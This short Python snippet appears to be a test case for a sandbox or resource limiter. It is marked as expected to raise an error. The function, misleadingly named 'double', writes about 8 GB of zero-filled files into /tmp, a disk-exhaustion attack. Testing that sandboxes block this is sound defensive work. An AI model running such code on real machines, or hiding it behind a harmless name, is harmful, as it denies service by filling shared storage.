# ending: raised
def double(x):
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file: file.write(bytes(8 << 20))
